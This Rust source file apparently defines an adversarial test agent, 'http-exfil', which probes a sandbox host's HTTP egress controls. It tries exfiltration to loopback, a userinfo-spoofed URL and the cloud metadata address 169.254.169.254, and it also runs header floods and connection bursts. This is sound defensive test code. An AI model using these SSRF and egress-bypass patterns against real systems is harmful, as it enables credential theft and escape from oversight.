//! Adversarial agent `http-exfil`: tries to send data to places its manifest
//! does not grant, and to bend the requests it may send. Its own manifest
//! allows only `http://allowed.invalid:80/api/*`; tests load it with other
//! grants to probe the host's egress engine.
//!
//! Two payload forms:
//!
//! - `{"targets": ["http://...", ...]}` (or no payload): a GET with an
//!   `x-exfil` header to each target. The call never succeeds:
//!   `denied("all exfiltration attempts refused: ...")` when every request
//!   failed, `internal("exfiltrated via ...")` if any got an HTTP response.
//!   Without targets the defaults are a loopback port, the same port behind
//!   userinfo that names the allowed host, and the cloud metadata address.
//! - `{"requests": [{"url", "method"?, "headers"?: [[name, value]], "body"?,
//!   "first-byte-timeout-ms"?}], "field-flood"?: {"count", "value-bytes"}}`:
//!   each request is sent as written and reported, one entry per attempt,
//!   in an `http-report` action: `{"attempts": [{"url", "result":
//!   "response" | "error" | "invalid", "status", "error", "headers",
//!   "body_bytes", "body"}], "flood": "..."}`. A field flood appends
//!   `count` fields of `value-bytes` bytes to one `fields` resource and
//!   reports how far it got.
//!
//! - `{"burst": {"url", "count"}}`: starts `count` GETs to `url` before
//!   waiting for any (as many connections at once as the host allows),
//!   then waits for each and reports `{"responses": n, "errors": [...]}`
//!   in a `burst-report` action.
//!
//! URLs are passed to `wasi:http` verbatim (userinfo and odd hosts
//! included), so the host sees exactly what an attacker would write.

use evos_sdk::{Action, Agent, Error, Event};
use http_client::{Method, Url};
use serde::{Deserialize, Serialize};
use wasi::http::outgoing_handler;
use wasi::http::types::{Fields, IncomingBody, OutgoingBody, RequestOptions};
use wasi::io::streams::StreamError;

const DEFAULT_TARGETS: [&str; 3] = [
    "http://127.0.0.1:9/exfil",
    "http://allowed.invalid@127.0.0.1:9/exfil",
    "http://169.254.169.254/latest/meta-data/",
];

/// Largest response body kept in the report.
const PREVIEW_BYTES: usize = 256;

#[derive(Deserialize, Default)]
#[serde(rename_all = "kebab-case")]
struct Probe {
    targets: Option<Vec<String>>,
    requests: Option<Vec<Request>>,
    field_flood: Option<Flood>,
    burst: Option<Burst>,
}

#[derive(Deserialize)]
struct Burst {
    url: String,
    count: usize,
}

#[derive(Deserialize)]
#[serde(rename_all = "kebab-case")]
struct Request {
    url: String,
    #[serde(default)]
    method: Option<String>,
    #[serde(default)]
    headers: Vec<(String, String)>,
    #[serde(default)]
    body: String,
    #[serde(default)]
    first_byte_timeout_ms: Option<u64>,
}

#[derive(Deserialize)]
#[serde(rename_all = "kebab-case")]
struct Flood {
    count: usize,
    value_bytes: usize,
}

#[derive(Serialize, Default)]
struct Attempt {
    url: String,
    result: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    status: Option<u16>,
    #[serde(skip_serializing_if = "Option::is_none")]
    error: Option<String>,
    headers: Vec<(String, String)>,
    body_bytes: usize,
    body: String,
}

/// What happened to one GET of the legacy form: `Ok(status)` when a
/// response arrived.
fn attempt(target: &str) -> Result<u16, String> {
    let url = Url::parse_verbatim(target).map_err(|e| format!("not sent: {e}"))?;
    http_client::send(Method::Get, &url, &[("x-exfil", "secret-token")], &[])
        .map(|response| response.status)
        .map_err(|e| e.to_string())
}

/// Send one request as written and describe what came back.
fn probe(req: &Request) -> Attempt {
    let mut out = Attempt {
        url: req.url.clone(),
        ..Attempt::default()
    };
    match send(req, &mut out) {
        Ok(()) => out.result = "response",
        Err((result, e)) => {
            out.result = result;
            out.error = Some(e);
        }
    }
    out
}

type Failure = (&'static str, String);

fn invalid(e: impl Into<String>) -> Failure {
    ("invalid", e.into())
}

fn failed(e: impl Into<String>) -> Failure {
    ("error", e.into())
}

fn send(req: &Request, out: &mut Attempt) -> Result<(), Failure> {
    let url = Url::parse_verbatim(&req.url).map_err(invalid)?;
    let entries: Vec<(String, Vec<u8>)> = req
        .headers
        .iter()
        .map(|(k, v)| (k.to_ascii_lowercase(), v.as_bytes().to_vec()))
        .collect();
    let method = match req.method.as_deref().unwrap_or("GET") {
        "GET" => Method::Get,
        "POST" => Method::Post,
        "PUT" => Method::Put,
        "DELETE" => Method::Delete,
        other => Method::Other(other.to_string()),
    };
    let request = http_client::outgoing_request(&method, &url, &entries).map_err(|e| match e {
        http_client::HttpError::InvalidRequest(m) => invalid(m),
        other => failed(other.to_string()),
    })?;
    let body = request.body().map_err(|()| invalid("body taken"))?;
    let options = match req.first_byte_timeout_ms {
        Some(ms) => {
            let o = RequestOptions::new();
            o.set_first_byte_timeout(Some(ms * 1_000_000))
                .map_err(|()| invalid("timeout rejected"))?;
            Some(o)
        }
        None => None,
    };
    let pending = outgoing_handler::handle(request, options)
        .map_err(|e| failed(http_client::describe(&e)))?;
    if !req.body.is_empty()
        && let Ok(stream) = body.write()
    {
        for chunk in req.body.as_bytes().chunks(4096) {
            if stream.blocking_write_and_flush(chunk).is_err() {
                break;
            }
        }
    }
    let _ = OutgoingBody::finish(body, None);
    pending.subscribe().block();
    let response = match pending.get() {
        Some(Ok(Ok(r))) => r,
        Some(Ok(Err(code))) => return Err(failed(http_client::describe(&code))),
        _ => return Err(failed("no response")),
    };
    out.status = Some(response.status());
    out.headers = response
        .headers()
        .entries()
        .into_iter()
        .map(|(k, v)| (k, String::from_utf8_lossy(&v).into_owned()))
        .collect();
    let incoming = response.consume().map_err(|()| failed("body taken"))?;
    let stream = incoming.stream().map_err(|()| failed("no body stream"))?;
    let mut preview = Vec::new();
    loop {
        match stream.blocking_read(16 * 1024) {
            Ok(chunk) => {
                out.body_bytes += chunk.len();
                let room = PREVIEW_BYTES.saturating_sub(preview.len());
                preview.extend_from_slice(&chunk[..chunk.len().min(room)]);
            }
            Err(StreamError::Closed) => break,
            Err(StreamError::LastOperationFailed(e)) => {
                out.body = String::from_utf8_lossy(&preview).into_owned();
                let why = match wasi::http::types::http_error_code(&e) {
                    Some(code) => http_client::describe(&code),
                    // Not an `error-code`: the host's message, without
                    // the backtrace a debug string may carry.
                    None => e
                        .to_debug_string()
                        .lines()
                        .next()
                        .unwrap_or_default()
                        .to_string(),
                };
                return Err(failed(format!("reading the body: {why}")));
            }
        }
    }
    drop(stream);
    drop(IncomingBody::finish(incoming));
    out.body = String::from_utf8_lossy(&preview).into_owned();
    Ok(())
}

/// Append fields until `count` or the host says no.
fn flood(f: &Flood) -> String {
    let fields = Fields::new();
    let value = vec![b'a'; f.value_bytes];
    for i in 0..f.count {
        if let Err(e) = fields.append(&format!("x-flood-{i}"), &value) {
            return format!("refused after {i} fields: {e}");
        }
    }
    format!("all {} fields accepted", f.count)
}

/// Start every request of `b` first, then collect what came back.
fn burst(b: &Burst) -> Result<serde_json::Value, Error> {
    let url = Url::parse_verbatim(&b.url).map_err(|e| Error::InvalidInput(e.to_string()))?;
    let mut pending = Vec::new();
    let mut errors = Vec::new();
    for _ in 0..b.count {
        let request = http_client::outgoing_request(&Method::Get, &url, &[])
            .map_err(|e| Error::InvalidInput(e.to_string()))?;
        let Ok(body) = request.body() else {
            errors.push("body taken".to_string());
            continue;
        };
        match outgoing_handler::handle(request, None) {
            Ok(p) => {
                let _ = OutgoingBody::finish(body, None);
                pending.push(p);
            }
            Err(e) => errors.push(http_client::describe(&e)),
        }
    }
    let mut responses = 0;
    for p in pending {
        p.subscribe().block();
        match p.get() {
            Some(Ok(Ok(response))) => {
                responses += 1;
                // Read the body to its end so the connection is free again.
                if let Ok(incoming) = response.consume() {
                    if let Ok(stream) = incoming.stream() {
                        while stream.blocking_read(16 * 1024).is_ok() {}
                    }
                    drop(IncomingBody::finish(incoming));
                }
            }
            Some(Ok(Err(code))) => errors.push(http_client::describe(&code)),
            _ => errors.push("no response".to_string()),
        }
    }
    Ok(serde_json::json!({"responses": responses, "errors": errors}))
}

struct HttpExfil;

impl Agent for HttpExfil {
    fn handle(event: Event) -> Result<Vec<Action>, Error> {
        let probe_spec: Probe = if event.payload.trim().is_empty() {
            Probe::default()
        } else {
            evos_sdk::json::parse(&event.payload)?
        };
        if let Some(b) = &probe_spec.burst {
            let payload = burst(b)?;
            return Ok(vec![Action::new(
                "burst-report",
                &event,
                &payload,
                "every request of the burst reported",
            )?]);
        }
        if probe_spec.requests.is_some() || probe_spec.field_flood.is_some() {
            let attempts: Vec<Attempt> = probe_spec.requests.iter().flatten().map(probe).collect();
            let flood = probe_spec.field_flood.as_ref().map(flood);
            let payload = serde_json::json!({ "attempts": attempts, "flood": flood });
            return Ok(vec![Action::new(
                "http-report",
                &event,
                &payload,
                "every attempt reported",
            )?]);
        }

        let targets = probe_spec
            .targets
            .unwrap_or_else(|| DEFAULT_TARGETS.iter().map(|t| t.to_string()).collect());
        let mut refused = Vec::new();
        let mut exfiltrated = Vec::new();
        for target in &targets {
            match attempt(target) {
                Ok(status) => exfiltrated.push(format!("{target} (HTTP {status})")),
                Err(reason) => refused.push(format!("{target}: {reason}")),
            }
        }
        if !exfiltrated.is_empty() {
            return Err(Error::Internal(format!(
                "exfiltrated via {}",
                exfiltrated.join(", ")
            )));
        }
        Err(Error::Denied(format!(
            "all exfiltration attempts refused: {}",
            refused.join("; ")
        )))
    }
}

evos_sdk::export_agent!(HttpExfil);
